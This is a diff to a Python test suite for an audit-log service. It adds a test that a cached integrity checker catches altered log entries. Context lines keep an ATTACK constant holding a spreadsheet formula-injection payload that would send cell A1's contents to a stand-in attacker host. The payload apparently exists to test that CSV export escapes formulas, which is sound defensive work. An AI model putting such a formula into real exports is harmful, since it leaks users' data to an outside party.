@@ -19,6 +19,7 @@ from central_sync.accounts import hash_password
 from central_sync.db import CentralDB
 from central_sync.db.audit import verify_chain
 from central_sync.web import create_app
+from central_sync.web.audit import _CachedChainStatus
 
 PASSWORD = "correct horse battery"
 ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
@@ -141,3 +142,18 @@ def test_csv_export_escapes_formulas_and_json_keeps_entries_exact(audited: Centr
     assert (export["actor"], export["action"]) == ("quinn", "audit.export")
     assert [e["seq"] for e in exported["entries"]] == list(range(1, export["seq"]))
     assert json.loads(export["detail"]) == {"format": "json"}
+
+
+def test_the_page_verifies_new_entries_on_from_the_last_head_and_all_again_later(
+        audited: CentralDB) -> None:
+    status = _CachedChainStatus(audited, ttl_s=0, full_s=3600)
+    assert status.report().intact and status.report().verified_up_to == 9
+    audited.audit("alice", "model.deploy", "scrap-model@1.0.4", "")
+    step = status.report()
+    assert step.intact and (step.verified_up_to, step.entries) == (10, 10)
+    audited._db.execute("UPDATE audit_log SET detail = 'x' WHERE seq = 10")  # the head
+    broken = status.report()  # the step from a changed head verifies all
+    assert [(f.seq, f.problem) for f in broken.findings] == [(10, "altered")]
+    audited._db.execute("UPDATE audit_log SET detail = '' WHERE seq = 10")
+    audited._db.execute("UPDATE audit_log SET detail = 'x' WHERE seq = 2")
+    assert not _CachedChainStatus(audited, ttl_s=0, full_s=0).report().intact
